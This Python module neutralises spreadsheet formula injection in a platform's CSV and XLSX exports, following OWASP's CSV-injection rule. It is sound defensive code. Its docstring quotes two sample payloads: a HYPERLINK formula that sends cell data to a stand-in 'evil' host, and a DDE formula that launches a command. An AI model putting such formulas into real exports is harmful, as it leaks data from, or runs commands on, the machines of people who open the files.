"""Cells that are safe to open in a spreadsheet: the one guard against formula injection.

Every CSV and XLSX the platform writes (batch reports, catalog templates, check exports)
passes its values through here. Report files repeat what departments sent, and a cell such
as `=HYPERLINK("http://evil/?"&A2,"点击")` or `+cmd|' /C calc'!A0` would otherwise run as a
formula on a colleague's machine when the report is opened.

The rule is OWASP's (CSV injection): a *string* whose first character is = + - @ TAB or CR
is neutralised.

- CSV has no cell types, so such a string is written with a leading apostrophe `'`, which
  spreadsheet programs show as text and never evaluate.
- XLSX has cell types: such a string is written as a text cell (data type `s`, never `f`)
  with the cell's quotePrefix flag, so Excel keeps it text even when someone edits the cell.
  The text itself is left exactly as the department sent it (no apostrophe added), because
  the report is their data repeated.

Numbers stay numbers: a value the platform holds as int/float/Decimal (a count, an amount,
a negative balance such as -1.5) is not a string, cannot carry a formula and is written
unchanged. A *string* "-1.5" (reports repeat source text) is prefixed in CSV like any other
text starting with "-": a spreadsheet then shows '-1.5 as text, which is safe to open and
loses nothing; being faithful to a source string matters more than it being summable.

XLSX cells are also cut to Excel's 32,767-character limit, past which Excel declares the
whole file damaged.
"""

from __future__ import annotations

from collections.abc import Iterable

# OWASP: characters that make a spreadsheet program start a formula (or, for TAB and CR,
# that some programs strip before looking at the next character).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EXCEL_CELL_LIMIT = 32_767
TRUNCATED = "…（内容过长，已截断）"


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_value(value):
    """The value to hand to csv.writer: formula-like strings get a leading apostrophe."""
    if is_formula_like(value):
        return "'" + value
    return value


def csv_row(values: Iterable) -> list:
    return [csv_value(v) for v in values]


def _fit(value):
    if isinstance(value, str) and len(value) > EXCEL_CELL_LIMIT:
        return value[: EXCEL_CELL_LIMIT - len(TRUNCATED)] + TRUNCATED
    return value


def xlsx_value(sheet, value, font=None):
    """A value for `sheet.append` (write-only or normal sheet): the plain value where it is
    safe (cheapest for openpyxl), else a cell typed as text with quotePrefix set."""
    value = _fit(value)
    formula_like = is_formula_like(value)
    if font is None and not formula_like:
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if formula_like:
        mark_text(cell)
    if font is not None:
        cell.font = font
    return cell


def xlsx_row(sheet, values: Iterable, font=None) -> list:
    return [xlsx_value(sheet, v, font) for v in values]


def mark_text(cell) -> None:
    """Make an openpyxl cell holding a formula-like string a text cell."""
    cell.data_type = "s"  # openpyxl types any "=…" string as a formula ("f") otherwise
    cell.quotePrefix = True


def set_cell(sheet, row: int, column: int, value):
    """`sheet.cell(row, column, value)` for normal (not write-only) sheets, made safe."""
    value = _fit(value)
    cell = sheet.cell(row=row, column=column, value=value)
    if is_formula_like(value):
        mark_text(cell)
    return cell


def append_row(sheet, values: Iterable) -> None:
    """`sheet.append(values)` for normal sheets, made safe."""
    values = [_fit(v) for v in values]
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if is_formula_like(value):
            mark_text(sheet.cell(row=row, column=column))
